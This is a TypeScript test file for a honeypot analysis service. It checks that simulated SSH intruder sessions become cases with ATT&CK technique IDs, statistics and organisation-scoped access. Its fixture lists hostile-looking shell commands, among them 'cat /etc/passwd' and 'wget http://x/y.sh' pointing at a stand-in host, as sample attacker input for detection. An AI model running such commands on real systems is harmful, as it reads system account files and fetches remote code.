import { eq, like } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DecoyEvent } from '@cynex/core';
import { startTestHub, type TestHub } from '../../../test/harness.js';
import { CasesAutomaticService } from '../cases/cases-automatic.service.js';
import { decoySessions } from '../decoy/decoy.table.js';
import { decoySightings } from '../telescope/telescope.table.js';
import { createWorld, hoursLater, sessionEvents, SENSOR } from './decoy-analysis.fixtures.js';
import { DecoyAnalysisRepository } from './decoy-analysis.repository.js';
import { DecoyAnalysisService } from './decoy-analysis.service.js';

type Headers = Record<string, string>;
interface CaseItem {
  id: string;
  caseId: string;
  summaryEn: string;
  summaryJa: string;
  progressLevel: number;
  suggestedLevel: number | null;
  scope: string;
  marking: string;
  ownerOrgId: string;
}
interface Behaviour {
  category: string;
  techniqueIds: string[];
  notes: string;
  action: string;
}

const ATTACK = ['uname -a', 'cat /etc/passwd', 'wget http://x/y.sh'];

describe(DecoyAnalysisService.name, () => {
  let hub: TestHub;
  const h = {} as Record<'padmin' | 'anaA' | 'anaB', Headers>;
  const orgs = {} as Record<'A' | 'B', string>;

  const upload = async (events: DecoyEvent[]) => {
    const response = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/decoy/events',
      headers: h.padmin,
      payload: { sensorId: SENSOR, events },
    });
    expect(response.statusCode, response.body).toBe(200);
  };
  const get = async (who: keyof typeof h, url: string) => {
    const response = await hub.app.inject({ method: 'GET', url, headers: h[who] });
    expect(response.statusCode, response.body).toBe(200);
    return response.json();
  };
  const casesOf = async (who: keyof typeof h, world: string): Promise<CaseItem[]> =>
    ((await get(who, `/api/v1/cases?q=${encodeURIComponent(world)}&limit=100`)).items as CaseItem[]).filter((c) =>
      c.caseId.includes(`_${world.toUpperCase()}_`),
    );
  const behavioursOf = async (id: string): Promise<Behaviour[]> =>
    (await get('anaA', `/api/v1/cases/${id}`)).behaviours as Behaviour[];

  beforeAll(async () => {
    hub = await startTestHub();
    orgs.A = (await hub.org('analysis-a')).id;
    orgs.B = (await hub.org('analysis-b')).id;
    await hub.user('ana@analysis-a.example', { memberships: [{ orgId: orgs.A, role: 'analyst' }] });
    await hub.user('ana@analysis-b.example', { memberships: [{ orgId: orgs.B, role: 'analyst' }] });
    await hub.user('root@analysis.example', { platformAdmin: true });
    h.anaA = await hub.signIn('ana@analysis-a.example');
    h.anaB = await hub.signIn('ana@analysis-b.example');
    h.padmin = await hub.signIn('root@analysis.example');
  }, 60_000);
  afterAll(async () => hub?.dispose());

  it('turns uploaded commands into a case with the techniques, evidence and a suggested level', async () => {
    await createWorld(hub, { id: 'wone', ownerOrgId: orgs.A });
    const start = new Date('2026-03-01T10:00:00Z');
    await upload(sessionEvents({ world: 'wone', session: 'a1', ip: '203.0.113.7', start, commands: ATTACK }));
    await hub.services.decoyAnalysis.drain();

    const [found, ...more] = await casesOf('anaA', 'wone');
    expect(more).toEqual([]);
    expect(found!.caseId).toMatch(/^260301_WONE_\d{3}$/);
    expect(found!.summaryEn).toBe('SSH intrusion from 203.0.113.7 into Shirasagi Town Office');
    expect(found!.summaryJa).toContain('白鷺町役場');
    expect([found!.scope, found!.marking, found!.ownerOrgId]).toEqual(['organisation', 'AMBER', orgs.A]);
    expect(found!.suggestedLevel).toBeGreaterThanOrEqual(3);
    expect(found!.progressLevel).toBe(found!.suggestedLevel);

    const behaviours = await behavioursOf(found!.id);
    const techniques = new Set(behaviours.flatMap((b) => b.techniqueIds));
    for (const id of ['T1082', 'T1087.001', 'T1105']) expect(techniques).toContain(id);
    const download = behaviours.find((b) => b.techniqueIds.includes('T1105'))!;
    const [session] = await hub.database.db.select().from(decoySessions).where(eq(decoySessions.session, 'a1'));
    expect(download.notes).toContain(`decoy session ${session!.id}, event a1:4`);
    expect(download.notes).toContain('wget http://x/y.sh');
    expect(session!.caseId).toBe(found!.id);
    expect(session!.techniques).toEqual(expect.arrayContaining(['T1082', 'T1087.001', 'T1105']));
    expect(session!.analysedAt?.getTime()).toBe(session!.lastEventAt.getTime());

    const audit = await get('padmin', '/api/v1/audit?action=case.create&limit=50');
    expect((audit.items as { targetId: string }[]).some((entry) => entry.targetId === found!.id)).toBe(true);
  });

  it('joins a session from the same source within a day, and opens a new case three days later', async () => {
    await createWorld(hub, { id: 'wtwo', ownerOrgId: orgs.A });
    const start = new Date('2026-03-02T08:00:00Z');
    await upload(sessionEvents({ world: 'wtwo', session: 'b1', ip: '198.51.100.20', start, commands: ['id'] }));
    await hub.services.decoyAnalysis.drain();
    await upload(
      sessionEvents({
        world: 'wtwo',
        session: 'b2',
        ip: '198.51.100.20',
        start: hoursLater(start, 20),
        commands: ATTACK,
      }),
    );
    await hub.services.decoyAnalysis.drain();
    const afterSecond = await casesOf('anaA', 'wtwo');
    expect(afterSecond).toHaveLength(1);
    const techniques = (await behavioursOf(afterSecond[0]!.id)).flatMap((b) => b.techniqueIds);
    expect(techniques).toEqual(expect.arrayContaining(['T1033', 'T1082', 'T1105']));

    await upload(
      sessionEvents({
        world: 'wtwo',
        session: 'b3',
        ip: '198.51.100.20',
        start: hoursLater(start, 72),
        commands: ['w'],
      }),
    );
    await hub.services.decoyAnalysis.drain();
    const later = await casesOf('anaA', 'wtwo');
    expect(later).toHaveLength(2);
    expect(later.map((c) => c.caseId).sort()).toEqual(['260302_WTWO_001', '260305_WTWO_002']);
  });

  it('does not duplicate behaviours when a session gets more events, nor count a re-upload twice', async () => {
    await createWorld(hub, { id: 'wthree', ownerOrgId: orgs.A });
    const events = sessionEvents({
      world: 'wthree',
      session: 'c1',
      ip: '192.0.2.44',
      start: new Date('2026-03-03T00:00:00Z'),
      commands: ATTACK,
    });
    await upload(events.slice(0, 4));
    await hub.services.decoyAnalysis.drain();
    await upload(events);
    await upload(events);
    await hub.services.decoyAnalysis.drain();
    const [only, ...rest] = await casesOf('anaA', 'wthree');
    expect(rest).toEqual([]);
    const downloads = (await behavioursOf(only!.id)).filter((b) => b.techniqueIds.includes('T1105'));
    const discovery = (await behavioursOf(only!.id)).filter((b) => b.techniqueIds.includes('T1082'));
    expect([downloads.length, discovery.length]).toEqual([1, 1]);
  });

  it('creates one case when uploads and two workers race on the same attacker', async () => {
    await createWorld(hub, { id: 'wrace', ownerOrgId: orgs.A });
    const start = new Date('2026-03-04T00:00:00Z');
    const sessions = ['r1', 'r2', 'r3', 'r4'].map((session, n) =>
      sessionEvents({ world: 'wrace', session, ip: '203.0.113.99', start: hoursLater(start, n), commands: ATTACK }),
    );
    await Promise.all(sessions.map((events) => upload(events)));
    const db = hub.database.db;
    const second = new DecoyAnalysisService(
      db,
      new DecoyAnalysisRepository(db),
      new CasesAutomaticService(hub.services.audit),
      hub.services.decoySightings,
    );
    await Promise.all([hub.services.decoyAnalysis.drain(), second.drain()]);
    expect(await casesOf('anaA', 'wrace')).toHaveLength(1);
  });

  it('leaves pending work in the table while stopped, and a fresh worker (a restarted hub) picks it up', async () => {
    await createWorld(hub, { id: 'wrestart', ownerOrgId: orgs.A });
    await hub.services.decoyAnalysis.stop();
    try {
      await upload(
        sessionEvents({ world: 'wrestart', session: 'k1', ip: '203.0.113.70', start: new Date(), commands: ATTACK }),
      );
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect(await casesOf('anaA', 'wrestart')).toEqual([]);
      const db = hub.database.db;
      const restarted = new DecoyAnalysisService(
        db,
        new DecoyAnalysisRepository(db),
        new CasesAutomaticService(hub.services.audit),
        hub.services.decoySightings,
      );
      await restarted.drain();
      expect(await casesOf('anaA', 'wrestart')).toHaveLength(1);
    } finally {
      hub.services.decoyAnalysis.start();
    }
  });

  it('joins a session that reuses a planted credential from another address', async () => {
    await createWorld(hub, { id: 'wcred', ownerOrgId: orgs.A });
    const start = new Date('2026-03-06T00:00:00Z');
    const planted = { username: 'tanaka', password: 'Shirasagi2024!', planted: true };
    await upload(sessionEvents({ world: 'wcred', session: 'p1', ip: '203.0.113.5', start, ...planted }));
    await upload(
      sessionEvents({ world: 'wcred', session: 'p2', ip: '198.51.100.77', start: hoursLater(start, 2), ...planted }),
    );
    await upload(sessionEvents({ world: 'wcred', session: 'p3', ip: '192.0.2.200', start: hoursLater(start, 3) }));
    await hub.services.decoyAnalysis.drain();
    const found = await casesOf('anaA', 'wcred');
    expect(found).toHaveLength(2);
    const techniques = (await behavioursOf(found.find((c) => c.summaryEn.includes('203.0.113.5'))!.id)).flatMap(
      (b) => b.techniqueIds,
    );
    expect(techniques).toContain('T1078');
  });

  it("gives a world's statistics: credentials, commands, downloads, hashes, techniques and days", async () => {
    await createWorld(hub, { id: 'wstats', ownerOrgId: orgs.A });
    const sha256 = 'a'.repeat(64);
    const start = new Date('2026-04-01T23:00:00Z');
    await upload(
      sessionEvents({
        world: 'wstats',
        session: 't1',
        ip: '203.0.113.30',
        start,
        commands: ['uname -a', 'uname -a', 'wget http://x/y.sh'],
        extra: [{ kind: 'download', url: 'http://x/y.sh', sha256, size: 1234 }],
      }),
    );
    await upload(
      sessionEvents({
        world: 'wstats',
        session: 't2',
        ip: '203.0.113.31',
        start: hoursLater(start, 2),
        username: 'admin',
        password: 'secret',
        commands: ['uname -a'],
      }),
    );
    await hub.services.decoyAnalysis.drain();

    const stats = await get('anaA', '/api/v1/decoy/worlds/wstats/stats');
    expect(stats).toMatchObject({ sessions: 2, sources: 2, authAttempts: 2, authSuccess: 2 });
    expect(stats.topUsernames).toEqual([
      { value: 'admin', count: 1 },
      { value: 'root', count: 1 },
    ]);
    expect(stats.topPasswords).toEqual([
      { value: 'admin', count: 1 },
      { value: 'secret', count: 1 },
    ]);
    expect(stats.topCommands).toEqual([
      { value: 'uname -a', count: 3 },
      { value: 'wget http://x/y.sh', count: 1 },
    ]);
    expect(stats.countries).toEqual([{ country: null, count: 2 }]);
    expect(stats.downloads).toEqual([{ url: 'http://x/y.sh', count: 1 }]);
    expect(stats.hashes).toEqual([{ sha256, count: 1, size: 1234 }]);
    expect(stats.techniques).toEqual(
      expect.arrayContaining([
        { id: 'T1082', count: 2 },
        { id: 'T1105', count: 1 },
      ]),
    );
    expect(stats.perDay).toEqual([
      { day: '2026-04-01', sessions: 1, events: 7 },
      { day: '2026-04-02', sessions: 1, events: 4 },
    ]);
    const secondDay = await get('anaA', '/api/v1/decoy/worlds/wstats/stats?from=2026-04-02&to=2026-04-02');
    expect([secondDay.sessions, secondDay.topUsernames]).toEqual([1, [{ value: 'admin', count: 1 }]]);
    const bad = await hub.app.inject({
      method: 'GET',
      url: '/api/v1/decoy/worlds/wstats/stats?from=yesterday',
      headers: h.anaA,
    });
    expect(bad.statusCode).toBe(400);
  });

  it('records every attacker address as a decoy sighting', async () => {
    await createWorld(hub, { id: 'wsight', ownerOrgId: orgs.A });
    await upload(
      sessionEvents({ world: 'wsight', session: 's1', ip: '203.0.113.61', start: new Date(), commands: ['uname -a'] }),
    );
    await hub.services.decoyAnalysis.drain();
    const rows = await hub.database.db
      .select()
      .from(decoySightings)
      .where(like(decoySightings.key, `${SENSOR}:session-s1`));
    expect(rows.map((r) => [r.host, r.environmentCode, r.kind])).toEqual([['203.0.113.61', 'WSIGHT', 'command']]);
  });

  it('shows another organisation neither the cases nor the statistics of a world not lent to it', async () => {
    await createWorld(hub, { id: 'wpriv', ownerOrgId: orgs.A });
    await upload(
      sessionEvents({ world: 'wpriv', session: 'v1', ip: '203.0.113.8', start: new Date(), commands: ATTACK }),
    );
    await hub.services.decoyAnalysis.drain();
    expect(await casesOf('anaA', 'wpriv')).toHaveLength(1);
    expect(await casesOf('anaB', 'wpriv')).toEqual([]);
    const stats = await hub.app.inject({ method: 'GET', url: '/api/v1/decoy/worlds/wpriv/stats', headers: h.anaB });
    expect(stats.statusCode).toBe(404);
    const anonymous = await hub.app.inject({ method: 'GET', url: '/api/v1/decoy/worlds/wpriv/stats' });
    expect(anonymous.statusCode).toBe(401);
  });

  it('lends: sessions of a lent world are the borrower’s, and so are their cases', async () => {
    await createWorld(hub, { id: 'wlent', ownerOrgId: orgs.A, lentToOrgId: orgs.B });
    await upload(
      sessionEvents({ world: 'wlent', session: 'l1', ip: '203.0.113.9', start: new Date(), commands: ATTACK }),
    );
    await hub.services.decoyAnalysis.drain();
    const [lent] = await casesOf('anaB', 'wlent');
    expect(lent?.ownerOrgId).toBe(orgs.B);
    expect(await get('anaB', '/api/v1/decoy/worlds/wlent/stats')).toMatchObject({ sessions: 1, sources: 1 });
  });
});
